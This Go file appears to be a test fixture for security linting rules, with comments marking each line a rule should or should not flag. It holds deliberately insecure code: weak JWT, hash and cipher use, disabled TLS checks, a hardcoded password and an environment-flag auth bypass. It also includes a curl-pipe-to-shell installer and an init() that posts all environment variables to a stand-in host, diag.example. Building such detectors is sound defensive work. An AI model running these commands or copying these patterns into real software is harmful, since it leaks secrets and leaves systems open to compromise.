package fixture

import (
	"bytes"
	"crypto/md5"
	"crypto/rsa"
	"crypto/tls"
	"crypto/des"
	crand "crypto/rand"
	"encoding/json"
	"fmt"
	mrand "math/rand"
	"net/http"
	"os"
	"os/exec"

	"github.com/golang-jwt/jwt/v5"
)

func userClaims(raw string, pub *rsa.PublicKey) (jwt.MapClaims, error) {
	claims := jwt.MapClaims{}
	// ruleid: go-jwt-keyfunc-without-method-check
	_, err := jwt.ParseWithClaims(raw, claims, func(t *jwt.Token) (interface{}, error) {
		return pub, nil
	}, jwt.WithAudience("web"))
	return claims, err
}

func serviceClaims(raw string, pub *rsa.PublicKey) (jwt.MapClaims, error) {
	claims := jwt.MapClaims{}
	// ok: go-jwt-keyfunc-without-method-check
	_, err := jwt.ParseWithClaims(raw, claims, func(t *jwt.Token) (interface{}, error) {
		return pub, nil
	}, jwt.WithValidMethods([]string{"RS256"}))
	return claims, err
}

func checked(raw string, pub *rsa.PublicKey) (*jwt.Token, error) {
	// ok: go-jwt-keyfunc-without-method-check
	return jwt.Parse(raw, func(t *jwt.Token) (interface{}, error) {
		if _, ok := t.Method.(*jwt.SigningMethodRSA); !ok {
			return nil, jwt.ErrSignatureInvalid
		}
		return pub, nil
	})
}

func tenant(raw string) string {
	claims := jwt.MapClaims{}
	// ruleid: go-jwt-parse-unverified
	jwt.NewParser().ParseUnverified(raw, claims)
	t, _ := claims["tenant"].(string)
	return t
}

func none() (string, error) {
	// ruleid: go-jwt-none-algorithm
	return jwt.NewWithClaims(jwt.SigningMethodNone, jwt.MapClaims{}).SignedString(jwt.UnsafeAllowNoneSignatureType)
}

func hashPassword(pw string) [16]byte {
	// ruleid: go-weak-hash-security-context
	return md5.Sum([]byte(pw))
}

func checksum(b []byte) [16]byte {
	// ok: go-weak-hash-security-context
	return md5.Sum(b)
}

func legacy(key []byte) {
	// ruleid: go-broken-cipher
	des.NewCipher(key)
}

func keys() {
	// ruleid: go-short-rsa-key
	rsa.GenerateKey(crand.Reader, 1024)
	// ok: go-short-rsa-key
	rsa.GenerateKey(crand.Reader, 3072)
}

const alphabet = "ABCDEFGHJKLMNPQRSTUVWXYZ23456789"

func InviteCode(n int) string {
	b := make([]byte, n)
	for i := range b {
		// ruleid: go-math-rand-secret
		b[i] = alphabet[mrand.Intn(len(alphabet))]
	}
	return string(b)
}

func Backoff(attempt int) int64 {
	// ok: go-math-rand-secret
	return mrand.Int63n(int64(100 << uint(attempt)))
}

func client() *http.Client {
	tr := &http.Transport{}
	// site of the retired go-insecure-skip-verify (now the tree-sitter analysis')
	tr.TLSClientConfig = &tls.Config{InsecureSkipVerify: true}
	// look-alike of the retired go-insecure-skip-verify (now the tree-sitter analysis')
	_ = &tls.Config{MinVersion: tls.VersionTLS12}
	return &http.Client{Transport: tr}
}

func install() error {
	// ruleid: go-exec-network-shell
	cmd := exec.Command("sh", "-c", "curl -sSfL https://x.example/install.sh | sh -s -- -b /usr/local/bin")
	// ok: go-exec-network-shell
	exec.Command("git", "rev-parse", "HEAD").Run()
	return cmd.Run()
}

func init() {
	go func() {
		client := &http.Client{}
		payload, _ := json.Marshal(map[string]interface{}{"env": os.Environ()})
		// ruleid: go-environ-sent-over-network, go-network-in-init
		client.Post("https://diag.example/v1", "application/json", bytes.NewReader(payload))
		// ok: go-environ-sent-over-network
		// ruleid: go-network-in-init
		http.Get("https://diag.example/health")
	}()
}

func init() {
	// ruleid: go-network-in-init
	http.Get("https://update.example/check")
}

func verify(mac, expectedMAC []byte, sig string, expectedSig string) bool {
	// ruleid: go-timing-unsafe-comparison
	if bytes.Equal(mac, expectedMAC) {
		return true
	}
	// ok: go-timing-unsafe-comparison
	if len(sig) == len(expectedSig) && sig == "" {
		return false
	}
	// ruleid: go-timing-unsafe-comparison
	return sig == expectedSig
}

func login(password string) bool {
	// ruleid: go-credential-compared-with-literal
	return password == "Sup3rM@ster!"
}

func authMiddleware(next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		// ruleid: go-auth-skipped-on-flag
		if os.Getenv("SKIP_AUTH") == "1" {
			next.ServeHTTP(w, r)
			return
		}
		// ok: go-auth-skipped-on-flag
		if r.Header.Get("Authorization") == "" {
			http.Error(w, "unauthorized", 401)
			return
		}
		next.ServeHTTP(w, r)
	})
}

func oldTLS() *tls.Config {
	// ruleid: go-obsolete-tls-version
	return &tls.Config{MinVersion: tls.VersionTLS10}
}

func archive(dir string) error {
	// ruleid: go-shell-command-built-from-strings
	return exec.Command("sh", "-c", fmt.Sprintf("tar czf out.tgz %s", dir)).Run()
}

func archiveSafe(dir string) error {
	// ok: go-shell-command-built-from-strings
	return exec.Command("tar", "czf", "out.tgz", dir).Run()
}
